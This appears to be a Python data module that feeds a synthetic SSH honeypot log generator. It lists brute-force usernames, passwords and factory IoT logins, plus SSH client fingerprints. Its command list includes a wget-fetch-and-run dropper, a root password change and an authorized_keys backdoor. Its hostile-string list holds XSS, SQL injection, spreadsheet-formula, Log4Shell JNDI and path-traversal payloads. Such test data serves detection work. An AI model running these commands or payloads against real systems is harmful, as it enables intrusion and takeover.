"""What the attackers of synthetic logs say. Addresses and names are of the ranges reserved for documentation."""

from __future__ import annotations

NETWORKS = ("192.0.2.", "198.51.100.", "203.0.113.")  # RFC 5737; IPv6: RFC 3849
SENSOR_ADDRESS, SENSOR_ADDRESS_6 = "198.51.100.10", "2001:db8::10"

# Most wanted first: they are drawn by rank.
USERNAMES = (
    *("root", "admin", "user", "ubuntu", "test", "oracle", "postgres", "pi", "git", "guest", "ftpuser", "www"),
    *("mysql", "hadoop", "support", "deploy", "nagios", "tomcat", "dev", "es", "steam", "zabbix", "ansible"),
)
PASSWORDS = (
    *("123456", "admin", "root", "password", "1234", "12345678", "qwerty", "test", "123", "P@ssw0rd", "1q2w3e4r"),
    *("abc123", "111111", "toor", "raspberry", "changeme", "letmein", "000000", "user", "1qaz2wsx", "admin123"),
    *("root123", "ubuntu", "oracle", "guest", "dragon", "monkey", "666666", "server", "zaq12wsx", "88888888"),
)
FACTORY_LOGINS = (
    *(("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"), ("root", "default")),
    *(("support", "support"), ("root", ""), ("admin", "password"), ("ubnt", "ubnt"), ("root", "Zte521")),
)
CLIENTS = (
    ("SSH-2.0-Go", ("curve25519-sha256", "ecdh-sha2-nistp256"), ("aes128-gcm@openssh.com", "aes128-ctr")),
    ("SSH-2.0-libssh2_1.10.0", ("ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"), ("aes256-ctr", "aes128-cbc")),
    ("SSH-2.0-libssh_0.9.6", ("curve25519-sha256", "ecdh-sha2-nistp521"), ("chacha20-poly1305@openssh.com",)),
    ("SSH-2.0-PUTTY", ("ecdh-sha2-nistp256", "diffie-hellman-group14-sha256"), ("aes256-ctr", "aes128-ctr")),
    ("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3", ("sntrup761x25519-sha512@openssh.com", "curve25519-sha256"), ("aes256-ctr",)),
)
KEY_ALGORITHMS = ("ssh-ed25519", "rsa-sha2-512", "ssh-rsa")
MACS = ("hmac-sha2-256", "hmac-sha2-512", "hmac-sha1")
ODD_VERSIONS = ("", "GET / HTTP/1.1", "SSH-1.5-scanner", "\\x16\\x03\\x01", "MGLNDD_198.51.100.10_22")
COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "uname -m",
    "lscpu | grep Model",
    "df -h | head -n 2",
    "cd /tmp; wget http://{host}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    'echo "root:{token}"|chpasswd|bash',
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo ssh-rsa {token} >> .ssh/authorized_keys",
    "/bin/busybox {token}",
    "nvidia-smi -q | grep 'Product Name'",
    "history -c",
)
FILES = ("bins.sh", "x86", "mips", "arm7", "xmrig.tar.gz", ".x", "dota3.tar.gz", "sshd")
FORWARDS = (
    ("www.example.com", 443),
    ("198.51.100.44", 80),
    ("mail.example.net", 25),
    ("2001:db8::25", 25),
    ("ip.example.org", 80),
)
ARCHITECTURES = ("linux-x64-lsb", "linux-arm-lsb", "linux-mips-lsb")

# Words against terminals, pages, spreadsheets, databases, parsers, columns.
HOSTILE = (
    "\x1b[2J\x1b]0;owned\x07",
    "a\x00b",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "\u202egpj.exe\u2066",
    "'; DROP TABLE sessions; --",
    '{"eventid":"cowrie.login.success","username":"root"}',
    "line\r\nbreak\u2028here",
    "üñí 日本語 🐚 \ufffd",
    "%(username)s %n ${jndi:ldap://203.0.113.66/a}",
    "../../../../etc/passwd",
    "| not | a | table |",
    "\\x00\\xff\\",
    "A" * 3000,
    "\x85\x9b31m\x7f",
    "",
)
